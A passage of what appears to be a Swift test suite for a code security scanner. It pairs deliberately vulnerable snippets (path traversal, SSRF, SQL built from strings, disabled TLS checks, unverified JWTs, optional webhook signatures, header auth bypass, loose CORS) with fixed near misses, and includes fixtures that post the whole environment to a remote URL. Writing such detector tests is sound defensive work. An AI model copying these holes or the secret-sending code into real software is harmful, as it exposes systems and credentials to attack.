                + "    public ResponseEntity<Resource> get(@RequestParam(\"file\") String file) {\n"
                + "        Path path = storageRoot.resolve(file);\n"
                + "        return ResponseEntity.ok().body(new PathResource(path));\n    }\n}\n",
            "code.path-traversal"),
        Example(
            "src/main/java/app/AttachmentController.java",
            "class AttachmentController {\n    @GetMapping(\"/attachments\")\n"
                + "    public ResponseEntity<Resource> get(@RequestParam(\"file\") String file) {\n"
                + "        Path path = storageRoot.resolve(file).normalize();\n"
                + "        if (!path.startsWith(storageRoot)) throw new ResponseStatusException(NOT_FOUND);\n"
                + "        return ResponseEntity.ok().body(new PathResource(path));\n    }\n}\n",
            nil),
        Example(
            "scripts/sync_vendor.py",
            "session = requests.Session()\nsession.verify = os.environ.get(\"VENDOR_CA_BUNDLE\", False)\n",
            "code.tls-verify-disabled"),
        Example(
            "scripts/sync_vendor.py",
            "session = requests.Session()\nsession.verify = os.environ.get(\"VENDOR_CA_BUNDLE\", True)\n", nil),
        Example(
            "notifications/render.py",
            "from jinja2 import Environment\n\n_subject_env = Environment(autoescape=False)\n\n\n"
                + "def subject(tenant, event):\n"
                + "    return _subject_env.from_string(tenant.subject_template).render(event=event)\n",
            "code.template-injection"),
        Example(
            "notifications/render.py",
            "from jinja2.sandbox import SandboxedEnvironment\n\n_subject_env = SandboxedEnvironment(autoescape=False)\n"
                + "\n\ndef subject(tenant, event):\n"
                + "    return _subject_env.from_string(tenant.subject_template).render(event=event)\n",
            nil),
        Example(
            "Jenkinsfile",
            "def changelogLine() {\n    return \"- ${env.CHANGE_TITLE} (#${env.CHANGE_ID})\"\n}\n\n"
                + "pipeline {\n  stages {\n    stage('Preview') {\n      steps {\n"
                + "        sh \"echo '${changelogLine()}' >> CHANGELOG.preview.md\"\n      }\n    }\n  }\n}\n",
            "ci.script-injection"),
        Example(
            "Jenkinsfile",
            "def changelogLine() {\n    return \"- build ${env.BUILD_NUMBER}\"\n}\n\n"
                + "pipeline {\n  stages {\n    stage('Preview') {\n      steps {\n"
                + "        sh \"echo '${changelogLine()}' >> CHANGELOG.preview.md\"\n      }\n    }\n  }\n}\n",
            nil),
        Example(
            "playbooks/node-exporter.yml",
            "- hosts: all\n  vars:\n    mirror_tls_verify: false\n  tasks:\n    - get_url:\n"
                + "        url: \"{{ mirror }}/node_exporter.tar.gz\"\n        validate_certs: \"{{ mirror_tls_verify "
                + "}}\"\n",
            "code.tls-verify-disabled"),
        Example(
            "playbooks/node-exporter.yml",
            "- hosts: all\n  vars:\n    mirror_tls_verify: true\n  tasks:\n    - get_url:\n"
                + "        url: \"{{ mirror }}/node_exporter.tar.gz\"\n        validate_certs: \"{{ mirror_tls_verify "
                + "}}\"\n",
            nil),
        Example(
            "src/Api/Program.cs",
            "options.TokenValidationParameters = new TokenValidationParameters\n{\n"
                + "    SignatureValidator = (token, parameters) =>\n    {\n        var parsed = new "
                + "JsonWebToken(token);\n"
                + "        if (parsed.Issuer == legacyIssuer)\n        {\n            return parsed;\n        }\n"
                + "        return Validate(token, parameters);\n    },\n};\n",
            "code.jwt-unverified"),
        Example(
            "src/Api/Program.cs",
            "options.TokenValidationParameters = new TokenValidationParameters\n{\n"
                + "    IssuerSigningKeys = legacyKeys.Concat(currentKeys),\n    ValidIssuers = new[] { authority, "
                + "legacy },\n};\n",
            nil),
        Example(
            "templates/partner-ingest.yaml",
            "Resources:\n  IngestRole:\n    Properties:\n      AssumeRolePolicyDocument:\n        Statement:\n"
                + "          - Effect: Allow\n            Principal:\n              AWS: \"*\"\n"
                + "            Action: sts:AssumeRole\n            Condition:\n              StringEquals:\n"
                + "                aws:PrincipalTag/partner-id: !Ref PartnerId\n",
            "infra.open-trust-policy"),
        Example(
            "templates/partner-ingest.yaml",
            "Resources:\n  IngestRole:\n    Properties:\n      AssumeRolePolicyDocument:\n        Statement:\n"
                + "          - Effect: Allow\n            Principal:\n              AWS: \"*\"\n"
                + "            Action: sts:AssumeRole\n            Condition:\n              StringEquals:\n"
                + "                aws:PrincipalOrgID: o-a1b2c3d4e5\n",
            nil),
        Example(
            "app/controllers/AuthController.scala",
            "class AuthController {\n  def login = Action { implicit request =>\n    Redirect(afterLogin(request))\n  "
                + "}\n\n"
                + "  private def afterLogin(request: RequestHeader): String =\n    request\n"
                + "      .getQueryString(\"returnTo\")\n      .filter(_.startsWith(\"/\"))\n      "
                + ".getOrElse(\"/\")\n}\n",
            "code.open-redirect"),
        Example(
            "app/controllers/AuthController.scala",
            "class AuthController {\n  def login = Action { implicit request =>\n    Redirect(afterLogin(request))\n  "
                + "}\n\n"
                + "  private def afterLogin(request: RequestHeader): String =\n    request\n"
                + "      .getQueryString(\"returnTo\")\n      .filter(t => t.startsWith(\"/\") && "
                + "!t.startsWith(\"//\"))\n"
                + "      .getOrElse(\"/\")\n}\n",
            nil),
    ])
    func batchFortyClasses(_ example: Example) { Self.check(example) }

    /// Batch 41's classes, each with its near miss: a signature checked only when the request carries one; decoded
    /// claims returned where a verified token is otherwise; a header predicate a security chain permits; Hummingbird's
    /// `loadFile`; a name compared with another's base name; a closed field of a query struct; a relative reference on
    /// a fixed base; TLS skipped against loopback or in a development file; a peppered HMAC of a password; built SQL
    /// returned by a Ruby helper; http4s's decoded body and `Request[F]`; CORS by an open suffix or an nginx map; a CI
    /// job's service container credentials; auth skipped by Echo's `RealIP`; the whole environment posted.
    @Test(arguments: [
        Example(
            "app/webhooks.py",
            "@router.post(\"/webhooks/pay\")\nasync def pay(request: Request, x_signature: str | None = Header(default"
                + "=None)):\n    payload = await request.body()\n    if x_signature is not None:\n"
                + "        _verify(payload, x_signature)\n    else:\n        log.warning(\"unsigned delivery\")\n"
                + "    dispatch(payload)\n", "code.signature-optional"),
        Example(
            "app/webhooks.py",
            "@router.post(\"/webhooks/pay\")\nasync def pay(request: Request, x_signature: str | None = Header(default"
                + "=None)):\n    payload = await request.body()\n    if x_signature is None:\n"
                + "        raise HTTPException(status_code=401, detail=\"missing signature\")\n"
                + "    _verify(payload, x_signature)\n    dispatch(payload)\n", nil),
        Example(
            "internal/hooks.go",
            "func (h *H) Partner(w http.ResponseWriter, r *http.Request) {\n\tbody, _ := io.ReadAll(r.Body)\n"
                + "\tif sig := r.Header.Get(\"X-Partner-Signature\"); sig != \"\" {\n\t\tif !h.valid(body, sig) {\n"
                + "\t\t\thttp.Error(w, \"bad signature\", http.StatusUnauthorized)\n\t\t\treturn\n\t\t}\n"
                + "\t} else {\n\t\tlog.Printf(\"unsigned delivery\")\n\t}\n\th.process(body)\n}\n",
            "code.signature-optional"),
        Example(
            "internal/hooks.go",
            "func (h *H) Partner(w http.ResponseWriter, r *http.Request) {\n\tbody, _ := io.ReadAll(r.Body)\n"
                + "\tsig := r.Header.Get(\"X-Partner-Signature\")\n\tif sig == \"\" || !h.valid(body, sig) {\n"
                + "\t\thttp.Error(w, \"bad signature\", http.StatusUnauthorized)\n\t\treturn\n\t}\n"
                + "\th.process(body)\n}\n", nil),
        Example(
            "Webhooks/PaymentController.cs",
            "var signature = Request.Headers[\"X-Pay-Signature\"].ToString();\n"
                + "if (signature.Length > 0 && !IsValid(body, signature))\n{\n    return Unauthorized();\n}\n"
                + "await _handler.HandleAsync(body);\n", "code.signature-optional"),
        Example(
            "lib/shop_web/plugs/verify_signature.ex",
            "  def call(conn, _opts) do\n    case get_req_header(conn, \"x-paygate-signature\") do\n      [] ->\n"
                + "        assign(conn, :test_delivery, true)\n\n      [signature | _] ->\n"
                + "        if valid?(conn, signature), do: conn, else: reject(conn)\n    end\n  end\n",
            "code.signature-optional"),
        Example(
            "lib/shop_web/plugs/verify_signature.ex",
            "  def call(conn, _opts) do\n    case get_req_header(conn, \"x-paygate-signature\") do\n      [] ->\n"
                + "        conn |> send_resp(401, \"missing signature\") |> halt()\n\n      [signature | _] ->\n"
                + "        if valid?(conn, signature), do: conn, else: reject(conn)\n    end\n  end\n", nil),
        Example(
            "src/outbound.ts",
            "const sig = sign(body);\nconst headers: Record<string, string> = {};\nif (sig !== \"\") {\n"
                + "  headers[\"X-Signature\"] = sig;\n}\nawait deliver(body, headers);\n", nil),
        Example(
            "src/auth/jwt.guard.ts",
            "const token = req.headers.authorization?.slice(7);\n"
                + "async resolve(token: string) {\n  const claims = this.jwt.decode(token) as any;\n"
                + "  if (claims?.iss === PARTNER_ISSUER) {\n    return claims;\n  }\n"
                + "  return this.jwt.verifyAsync(token, { secret });\n}\n", "code.jwt-unverified"),
        Example(
            "src/auth/jwt.guard.ts",
            "const token = req.headers.authorization?.slice(7);\n"
                + "async resolve(token: string) {\n  const decoded = jwt.decode(token, { complete: true });\n"
                + "  const key = await keyFor(decoded.header.kid);\n  return jwt.verify(token, key);\n}\n", nil),
        Example(
            "src/main/kotlin/app/JwtFilter.kt",
            "val header = request.getHeader(\"Authorization\")\n"
                + "private fun decodeForIssuer(token: String): DecodedJWT {\n    val decoded = JWT.decode(token)\n"
                + "    return if (decoded.issuer == meshIssuer) decoded else verifier.verify(token)\n}\n",
            "code.jwt-unverified"),
        Example(
            "src/main/java/app/SecurityConfig.java",
            "@Bean\nRequestMatcher internalTraffic() {\n"
                + "    return request -> \"internal\".equals(request.getHeader(\"X-Zone\"));\n}\n\n@Bean\n"
                + "SecurityFilterChain api(HttpSecurity http, RequestMatcher internalTraffic) throws Exception {\n"
                + "    http.authorizeHttpRequests(auth -> auth\n        .requestMatchers(internalTraffic).permitAll()\n"
                + "        .anyRequest().authenticated());\n    return http.build();\n}\n", "code.auth-bypass-header"),
        Example(
            "src/main/java/app/SecurityConfig.java",
            "@Bean\nRequestMatcher internalTraffic() {\n"
                + "    return request -> \"internal\".equals(request.getHeader(\"X-Zone\"));\n}\n\n@Bean\n"
                + "SecurityFilterChain api(HttpSecurity http, RequestMatcher internalTraffic) throws Exception {\n"
                + "    http.authorizeHttpRequests(auth -> auth\n"
                + "        .requestMatchers(internalTraffic).hasRole(\"SERVICE\")\n"
                + "        .anyRequest().authenticated());\n    return http.build();\n}\n", nil),
        Example(
            "Sources/App/ExportController.swift",
            "@Sendable func download(_ request: Request, context: Context) async throws -> Response {\n"
                + "    guard let name = request.uri.queryParameters.get(\"file\") else {\n"
                + "        throw HTTPError(.badRequest)\n    }\n"
                + "    let url = root.appendingPathComponent(name)\n"
                + "    let body = try await fileIO.loadFile(path: url.path, context: context)\n"
                + "    return Response(status: .ok, body: body)\n}\n", "code.path-traversal"),
        Example(
            "Sources/App/ExportController.swift",
            "@Sendable func download(_ request: Request, context: Context) async throws -> Response {\n"
                + "    let url = root.appendingPathComponent(\"report.zip\")\n"
                + "    let body = try await fileIO.loadFile(path: url.path, context: context)\n"
                + "    return Response(status: .ok, body: body)\n}\n", nil),
        Example(
            "app/Http/Controllers/ExportController.php",
            "<?php\n$part = $request->query('part');\n$name = $part === basename($export->path) ? 'all.csv' : $part;\n"
                + "return response()->download(Storage::path('exports/' . $part), $name);\n", "code.path-traversal"),
        Example(
            "app/Http/Controllers/ExportController.php",
            "<?php\n$part = $request->query('part');\nif ($part !== basename($part)) {\n    abort(400);\n}\n"
                + "return response()->download(Storage::path('exports/' . $part));\n", nil),
        Example(
            "src/thumbs.rs",
            "#[derive(Deserialize)]\npub struct ThumbParams {\n    w: Option<u32>,\n}\n\n"
                + "pub async fn thumb(Query(params): Query<ThumbParams>) -> Vec<u8> {\n"
                + "    let width = params.w.unwrap_or(320).clamp(64, 1280);\n"
                + "    let output = format!(\"/srv/thumbs/{width}.jpg\");\n"
                + "    tokio::fs::read(&output).await.unwrap()\n}\n", nil),
        Example(
            "src/thumbs.rs",
            "#[derive(Deserialize)]\npub struct ThumbParams {\n    name: Option<String>,\n}\n\n"
                + "pub async fn thumb(Query(params): Query<ThumbParams>) -> Vec<u8> {\n"
                + "    let name = params.name.unwrap_or_default();\n"
                + "    let output = format!(\"/srv/thumbs/{name}.jpg\");\n"
                + "    tokio::fs::read(&output).await.unwrap()\n}\n", "code.path-traversal"),
        Example(
            "src/routes/avatar.ts",
            "const BASE = 'https://www.gravatar.com/avatar/';\napp.get('/avatar', async (req, reply) => {\n"
                + "  const hash = createHash('md5').update(user.email).digest('hex');\n"
                + "  const res = await fetch(new URL(hash, BASE));\n  return reply.send(await res.arrayBuffer());\n"
                + "});\n", nil),
        Example(
            "src/routes/avatar.ts",
            "const BASE = 'https://www.gravatar.com/avatar/';\napp.get('/avatar', async (req, reply) => {\n"
                + "  const res = await fetch(new URL(req.query.path, BASE));\n"
                + "  return reply.send(await res.arrayBuffer());\n});\n", "code.ssrf"),
        Example(
            "scripts/smoke.sh",
            "#!/usr/bin/env bash\nBASE_URL=\"https://localhost:8443\"\ncurl -fsS --insecure \"${BASE_URL}/healthz\"\n",
            nil),
        Example(
            "scripts/smoke.sh",
            "#!/usr/bin/env bash\nBASE_URL=\"https://api.internal.example.com\"\n"
                + "curl -fsS --insecure \"${BASE_URL}/healthz\"\n", "code.tls-verify-disabled"),
        Example(
            "dev/traefik/dynamic.yml",
            "http:\n  serversTransports:\n    keycloak:\n      insecureSkipVerify: true\n", nil),
        Example(
            "deploy/traefik/dynamic.yml",
            "http:\n  serversTransports:\n    keycloak:\n      insecureSkipVerify: true\n", "code.tls-verify-disabled"),
        Example(
            "src/Account/AccountService.php",
            "<?php\nfunction digest(string $password): string {\n"
                + "    return hash_hmac('sha256', $password, $this->pepper);\n}\n", "code.weak-password-hash"),
        Example(
            "src/Webhooks/Signature.php",
            "<?php\nfunction expected(string $payload): string {\n"
                + "    return hash_hmac('sha256', $payload, $this->secret);\n}\n", nil),
        Example(
            "app/controllers/invoices_controller.rb",
            "class InvoicesController < ApplicationController\n  def index\n"
                + "    @invoices = Invoice.where(issued_range_condition)\n  end\n\n  def issued_range_condition\n"
                + "    from = params[:from].presence || \"1970-01-01\"\n    \"invoices.issued_on >= '#{from}'\"\n"
                + "  end\nend\n", "code.sql-string-built"),
        Example(
            "app/controllers/invoices_controller.rb",
            "class InvoicesController < ApplicationController\n  def index\n"
                + "    @invoices = Invoice.where(issued_range_condition, params[:from])\n  end\n\n"
                + "  def issued_range_condition\n    \"invoices.issued_on >= ?\"\n  end\nend\n", nil),
        Example(
            "src/main/scala/app/ImportRoutes.scala",
            "val routes = HttpRoutes.of[F] {\n  case req @ POST -> Root / \"import\" =>\n"
                + "    req.as[ImportRequest].flatMap { body =>\n"
                + "      client.run(Request[F](Method.GET, Uri.unsafeFromString(body.url)))\n"
                + "        .use(r => Ok(r.status.code))\n"
                + "    }\n}\n", "code.ssrf"),
        Example(
            "src/main/scala/app/ImportRoutes.scala",
            "val ratesUri = Uri.unsafeFromString(\"https://rates.example.com/latest\")\n"
                + "val routes = HttpRoutes.of[F] {\n  case req @ POST -> Root / \"import\" =>\n"
                + "    req.as[ImportRequest].flatMap { body =>\n"
                + "      client.run(Request[F](Method.GET, ratesUri)).use(r => Ok(r.status.code))\n    }\n}\n", nil),
        Example(
            "src/plugins/cors.ts",
            "app.register(cors, {\n  credentials: true,\n  origin: (origin, cb) => {\n"
                + "    const host = new URL(origin).hostname;\n"
                + "    cb(null, host.endsWith('example.com'));\n  },\n});\n",
            "code.cors-reflects-origin"),
        Example(
            "src/plugins/cors.ts",
            "app.register(cors, {\n  credentials: true,\n  origin: (origin, cb) => {\n"
                + "    const host = new URL(origin).hostname;\n"
                + "    cb(null, host === 'example.com' || host.endsWith('.example.com'));\n  },\n});\n", nil),
        Example(
            "src/plugins/cors.ts",
            "app.register(cors, {\n  credentials: true,\n  origin: (origin, cb) => {\n"
                + "    const host = new URL(origin).hostname;\n"
                + "    cb(null, host.endsWith('.vercel.app'));\n  },\n});\n",
            "code.cors-reflects-origin"),
        Example(
            "deploy/nginx/api.conf",
            "map $http_origin $cors_origin {\n    default \"\";\n    \"~^https://\" $http_origin;\n}\n"
                + "server {\n    location /v1/ {\n        add_header Access-Control-Allow-Origin $cors_origin always;\n"
                + "        add_header Access-Control-Allow-Credentials \"true\" always;\n    }\n}\n",
            "code.cors-reflects-origin"),
        Example(
            "deploy/nginx/api.conf",
            "map $http_origin $cors_origin {\n    default \"\";\n"
                + "    \"~^https://([a-z0-9-]+\\.)?example\\.com$\" $http_origin;\n}\n"
                + "server {\n    location /v1/ {\n        add_header Access-Control-Allow-Origin $cors_origin always;\n"
                + "        add_header Access-Control-Allow-Credentials \"true\" always;\n    }\n}\n", nil),
        Example(
            ".gitlab-ci.yml",
            "integration:\n  services:\n    - name: postgres:16-alpine\n      alias: db\n  variables:\n"
                + "    POSTGRES_PASSWORD: ci-pg-7Hq2xWm4\n"
                + "    DATABASE_URL: \"postgres://app:ci-pg-7Hq2xWm4@db:5432/app_test\"\n"
                + "  script:\n    - pytest\n", nil),
        Example(
            ".gitlab-ci.yml",
            "integration:\n  services:\n    - name: postgres:16-alpine\n      alias: db\n  variables:\n"
                + "    POSTGRES_PASSWORD: ci-pg-7Hq2xWm4\n"
                + "    DEPLOY_HOOK: \"https://deploy:Zq7rT2mW9xK4Lp@deploy.example.com/hook\"\n"
                + "  script:\n    - pytest\n", "secret.url-password"),
        Example(
            "app/settings.py", "SECRET_KEY = \"django-insecure-k3v9x2m7qt1r8w0z5pj4c6b-n@d%y8e\"\n",
            "secret.generic-assignment"),
        Example(
            ".gitlab-ci.yml",
            "integration:\n  services:\n    - name: postgres:16-alpine\n  variables:\n"
                + "    DJANGO_SECRET_KEY: \"django-insecure-k3v9x2m7qt1r8w0z5pj4c6b-n@d%y8e\"\n"
                + "  script:\n    - pytest\n", nil),
        Example(
            "cmd/api/server.go",
            "e.Use(echojwt.WithConfig(echojwt.Config{\n\tSigningKey: key,\n\tSkipper:    fromVPC,\n}))\n\n"
                + "func fromVPC(c echo.Context) bool {\n\treturn strings.HasPrefix(c.RealIP(), \"10.\")\n}\n",
            "code.auth-bypass-header"),
        Example(
            "cmd/api/server.go",
            "e.Use(echojwt.WithConfig(echojwt.Config{\n\tSigningKey: key,\n\tSkipper:    skipHealth,\n}))\n\n"
                + "func skipHealth(c echo.Context) bool {\n\treturn c.Path() == \"/healthz\"\n}\n", nil),
        Example(
            "build.gradle.kts",
            "val insights by tasks.registering {\n    doLast {\n"
                + "        val context = System.getenv().filterKeys { !it.startsWith(\"JAVA_\") }\n"
                + "        val payload = JsonOutput.toJson(mapOf(\"env\" to context))\n"
                + "        client.send(HttpRequest.newBuilder(URI.create(INGEST))\n"
                + "            .POST(HttpRequest.BodyPublishers.ofString(payload)).build(), discarding())\n    }\n}\n",
            "ci.secrets-exfiltration"),
        Example(
            "build.gradle.kts",
            "val insights by tasks.registering {\n    doLast {\n"
                + "        val context = System.getenv().filterKeys { it.startsWith(\"APP_BUILD_\") }\n"
                + "        val payload = JsonOutput.toJson(mapOf(\"env\" to context))\n"
                + "        client.send(HttpRequest.newBuilder(URI.create(INGEST))\n"
                + "            .POST(HttpRequest.BodyPublishers.ofString(payload)).build(), discarding())\n    }\n}\n",
            nil),
        Example(
            "scripts/report.py",
            "env = dict(os.environ)\nrequests.post(REPORT_URL, json={\"job\": JOB, \"env\": env}, timeout=5)\n",
            "ci.secrets-exfiltration"),
    ])
    func batchFortyOneClasses(_ example: Example) { Self.check(example) }

    /// Batch 42's classes, each with its near miss: a signature's presence tested through a name, in an `if`/`elif`
    /// chain, or by Swift's `if let` on the signature header; Hanami's `unsafe_send_file`; WordPress's
    /// `maybe_unserialize`; a user signed in by an identity header a proxy sets; WordPress table names in SQL; a
    /// template lookup that names a secret's path; a fixed-host URL template filled in; Flask's converting reads.
    @Test(arguments: [
        Example(
            "internal/webhooks/billing.go",
            "func (h *H) Billing(c *fiber.Ctx) error {\n\tbody := c.Body()\n\tsig := c.Get(\"X-Billing-Signature\")\n"
                + "\tlegacy := sig == \"\"\n\tif !legacy && !h.verify(body, sig) {\n"
                + "\t\treturn c.SendStatus(fiber.StatusUnauthorized)\n\t}\n\treturn h.apply(body)\n}\n",
            "code.signature-optional"),
        Example(
            "internal/webhooks/billing.go",
            "func (h *H) Billing(c *fiber.Ctx) error {\n\tbody := c.Body()\n\tsig := c.Get(\"X-Billing-Signature\")\n"
                + "\tmissing := sig == \"\"\n\tif missing || !h.verify(body, sig) {\n"
                + "\t\treturn c.SendStatus(fiber.StatusUnauthorized)\n\t}\n\treturn h.apply(body)\n}\n", nil),
        Example(
            "app/routers/webhooks.py",
            "@router.post(\"/payments\")\n"
                + "async def payments(request: Request, x_signature: str | None = Header(None)):\n"
                + "    body = await request.body()\n    if x_signature is None:\n"
                + "        log.info(\"unsigned delivery\")\n    elif not _verify(SECRET, body, x_signature):\n"
                + "        raise HTTPException(status_code=401)\n    await apply(body)\n", "code.signature-optional"),
        Example(
            "app/routers/webhooks.py",
            "@router.post(\"/payments\")\n"
                + "async def payments(request: Request, x_signature: str | None = Header(None)):\n"
                + "    body = await request.body()\n    if x_signature is None:\n"
                + "        raise HTTPException(status_code=401)\n    elif not _verify(SECRET, body, x_signature):\n"
                + "        raise HTTPException(status_code=401)\n    await apply(body)\n", nil),
        Example(
            "Sources/App/Controllers/BillingWebhookController.swift",
            "func receive(req: Request) async throws -> HTTPStatus {\n    let raw = req.body.string ?? \"\"\n"
                + "    if let header = req.headers.first(name: \"Paddle-Signature\") {\n"
                + "        try verify(header: header, payload: raw)\n    } else {\n"
                + "        req.logger.notice(\"treating as simulation\")\n    }\n    try await apply(raw)\n"
                + "    return .ok\n}\n", "code.signature-optional"),
        Example(
            "Sources/App/Controllers/BillingWebhookController.swift",
            "func receive(req: Request) async throws -> HTTPStatus {\n    let raw = req.body.string ?? \"\"\n"
                + "    if let header = req.headers.first(name: \"Paddle-Signature\") {\n"
                + "        try verify(header: header, payload: raw)\n    } else {\n"
                + "        throw Abort(.unauthorized)\n    }\n    try await apply(raw)\n    return .ok\n}\n", nil),
        Example(
            "app/actions/exports/download.rb",
            "def handle(request, response)\n  file_name = request.params[:part] || \"export.csv\"\n"
                + "  path = File.join(settings.export_dir, file_name)\n  response.unsafe_send_file(path)\nend\n",
            "code.path-traversal"),
        Example(
            "app/actions/exports/download.rb",
            "def handle(request, response)\n  path = File.join(settings.export_dir, \"export.csv\")\n"
                + "  response.unsafe_send_file(path)\nend\n", nil),
        Example(
            "includes/class-recently-viewed.php",
            "<?php\n$raw = base64_decode( wp_unslash( $_COOKIE['acme_rv'] ), true );\n"
                + "$data = maybe_unserialize( $raw );\n", "code.unsafe-deserialization"),
        Example(
            "includes/class-recently-viewed.php",
            "<?php\n$raw = base64_decode( wp_unslash( $_COOKIE['acme_rv'] ), true );\n"
                + "$data = json_decode( $raw, true );\n", nil),
        Example(
            "app/controllers/application_controller.rb",
            "def current_user\n  @current_user ||= user_from_session || user_from_proxy\nend\n\n"
                + "def user_from_proxy\n  email = request.headers[\"X-Forwarded-Email\"].to_s.strip.downcase\n"
                + "  return if email.blank?\n  User.active.find_by(email: email)\nend\n", "code.auth-bypass-header"),
        Example(
            "app/controllers/application_controller.rb",
            "def current_user\n  @current_user ||= user_from_session\nend\n\ndef audit_context\n"
                + "  email = request.headers[\"X-Forwarded-Email\"].to_s\n"
                + "  Rails.logger.info(\"proxy user #{email}\")\n"
                + "end\n", nil),
        Example(
            "admin/class-newsletter-admin.php",
            "<?php\n$rows = $wpdb->get_results(\n"
                + "    \"SELECT email FROM {$wpdb->prefix}nl_subscribers WHERE status = 'confirmed'\"\n);\n", nil),
        Example(
            "admin/class-newsletter-admin.php",
            "<?php\n$status = $_GET['status'];\n$rows = $wpdb->get_results(\n"
                + "    \"SELECT email FROM {$wpdb->prefix}nl_subscribers WHERE status = '{$status}'\"\n);\n",
            "code.sql-string-built"),
        Example(
            "includes/class-sku-search.php",
            "<?php\n$sku = sanitize_text_field( wp_unslash( $_GET['sku'] ?? '' ) );\n"
                + "$where = \"pm.meta_value LIKE '{$sku}%'\";\n"
                + "$rows = $wpdb->get_results( \"SELECT p.ID FROM {$wpdb->posts} p WHERE {$where}\" );\n",
            "code.sql-string-built"),
        Example(
            "roles/orders_db/tasks/main.yml",
            "- name: Create replication user\n  community.mysql.mysql_user:\n    name: repl\n"
                + "    password: \"{{ lookup('community.hashi_vault.hashi_vault', "
                + "'secret=kv/data/orders/mysql:repl_password') }}\"\n", nil),
        Example(
            "profiles/avatars.py",
            "GRAVATAR_URL = \"https://www.gravatar.com/avatar/{digest}\"\n\n"
                + "async def avatar(request):\n    size = int(request.query.get(\"s\", 80))\n"
                + "    url = GRAVATAR_URL.format(digest=digest_for(request.match_info[\"user\"]))\n"
                + "    async with session.get(url, params={\"s\": size}) as resp:\n        return await resp.read()\n",
            nil),
        Example(
            "profiles/avatars.py",
            "AVATAR_URL = \"https://{host}/avatar/{digest}\"\n\n"
                + "async def avatar(request):\n"
                + "    url = AVATAR_URL.format(host=request.query[\"host\"], digest=\"x\")\n"
                + "    async with session.get(url) as resp:\n        return await resp.read()\n", "code.ssrf"),
        Example(
            "video/previews.py",
            "@bp.get(\"/clips/<int:clip_id>/poster.jpg\")\ndef poster(clip_id: int):\n"
                + "    width = request.args.get(\"w\", default=640, type=int)\n"
                + "    dst = Path(CACHE) / f\"{clip_id}-{width}.jpg\"\n    return send_file(dst)\n", nil),
        Example(
            "video/previews.py",
            "@bp.get(\"/clips/<int:clip_id>/poster.jpg\")\ndef poster(clip_id: int):\n"
                + "    name = request.args.get(\"name\", default=\"poster\")\n"
                + "    dst = Path(CACHE) / f\"{clip_id}-{name}.jpg\"\n    return send_file(dst)\n",
            "code.path-traversal"),
    ])
    func batchFortyTwoClasses(_ example: Example) { Self.check(example) }

    /// The retired `h7` holdout's classes, each with its near miss: a Rust `format!` named argument and an Elixir
    /// attribute table are constants; a SealedSecret's ciphertext, a build secret's source quoted in prose and a
    /// converting Vapor read are no findings; TLS checks on only by opt-in or off by a serde default, Micronaut's
    /// trust-all setting; Keycloak's hash iterations; a `.tfvars` database made public; WordPress's
    /// `sanitize_text_field` is no path sanitiser; a Play action's parameters; `node:vm` scripts; Go's placeholder
    /// lists and counts; Ruby's command line held in a name; shell `eval` of the script's input; SpEL's standard
    /// context; a digest fed a password parameter; the environment dumped under a published artifact; a data store
    /// with authentication off and exposed; plain-HTTP downloads; decoded claims as a block's value; Kotlin's
    /// `buildString`.
    @Test(arguments: [
        Example(
            "src/repo/usage.rs",
            "impl Bucket {\n    fn as_sql(self) -> &'static str {\n        match self {\n"
                + "            Bucket::Hour => \"hour\",\n            Bucket::Day => \"day\",\n        }\n    }\n}\n\n"
                + "pub fn rollup(conn: &mut PgConnection, bucket: Bucket) -> QueryResult<Vec<Row>> {\n"
                + "    let sql = format!(\n        \"SELECT date_trunc('{unit}', at) FROM usage WHERE tenant = $1\",\n"
                + "        unit = bucket.as_sql(),\n    );\n    diesel::sql_query(sql).bind::<BigInt, _>(tenant).load(conn)\n}\n",
            nil),
        Example(
            "src/repo/usage.rs",
            "pub async fn rollup(Query(q): Query<Params>, pool: &PgPool) -> Result<Vec<Row>> {\n"
                + "    let sql = format!(\n        \"SELECT date_trunc('{unit}', at) FROM usage WHERE tenant = $1\",\n"
                + "        unit = q.bucket,\n    );\n    sqlx::query(&sql).fetch_all(pool).await\n}\n",
            "code.sql-string-built"),
        Example(
            "lib/app/usage.ex",
            "defmodule App.Usage do\n  @trunc_units %{hour: \"hour\", day: \"day\"}\n\n"
                + "  def totals(account_id, granularity) do\n    unit = Map.fetch!(@trunc_units, granularity)\n"
                + "    sql = \"SELECT date_trunc('#{unit}', at) FROM usage WHERE account_id = $1\"\n"
                + "    Repo.query!(sql, [account_id])\n  end\nend\n",
            nil),
        Example(
            "lib/app_web/usage_controller.ex",
            "defmodule AppWeb.UsageController do\n  def totals(conn, params) do\n    unit = Map.get(params, \"unit\")\n"
                + "    sql = \"SELECT date_trunc('#{unit}', at) FROM usage WHERE account_id = $1\"\n"
                + "    Repo.query!(sql, [conn.assigns.account_id])\n  end\nend\n",
            "code.sql-string-built"),
        Example(
            "k8s/sealedsecret.yaml",
            "apiVersion: bitnami.com/v1alpha1\nkind: SealedSecret\nmetadata:\n  name: twilio\nspec:\n  encryptedData:\n"
                + "    auth-token: AgBbi9cOdHBVVFd3ZDgIqvk8hoYUM6RNEt/y83I98vcKVCK9LsuCm0smYFKkUQ/zCqo5garBt+AO1UMkUDDGNl\n"
                + "  template:\n    type: Opaque\n",
            nil),
        Example(
            "k8s/secret.yaml",
            "apiVersion: v1\nkind: Secret\nmetadata:\n  name: twilio\nstringData:\n"
                + "  auth-token: Zq3Xw6Ce9Vr2Bt5Ny8Lk4Pm7\n",
            "secret.generic-assignment"),
        Example(
            "Dockerfile",
            "FROM ruby:3.3\nUSER app\n# build with `docker build --secret id=github_token,env=GITHUB_TOKEN`,\n"
                + "RUN --mount=type=secret,id=github_token bundle install\n",
            nil),
        Example(
            "Sources/App/AvatarController.swift",
            "struct AvatarController {\n    func update(req: Request) async throws -> HTTPStatus {\n"
                + "        guard let id = req.parameters.get(\"userID\", as: UUID.self) else { throw Abort(.notFound) }\n"
                + "        let png = try req.content.decode(Upload.self).image.data\n"
                + "        try await req.fileio.writeFile(png, at: \"/srv/avatars/\" + id.uuidString + \".png\")\n"
                + "        return .noContent\n    }\n}\n",
            nil),
        Example(
            "Sources/App/AvatarController.swift",
            "struct AvatarController {\n    func update(req: Request) async throws -> HTTPStatus {\n"
                + "        let name = try req.query.get(String.self, at: \"name\")\n"
                + "        try await req.fileio.writeFile(png, at: \"/srv/avatars/\" + name)\n"
                + "        return .noContent\n    }\n}\n",
            "code.path-traversal"),
        Example(
            "scripts/sync.ts",
            "const strictTls = process.env.BILLING_TLS_STRICT === 'true';\n"
                + "const agent = new https.Agent({ keepAlive: true, rejectUnauthorized: strictTls });\n",
            "code.tls-verify-disabled"),
        Example(
            "scripts/sync.ts",
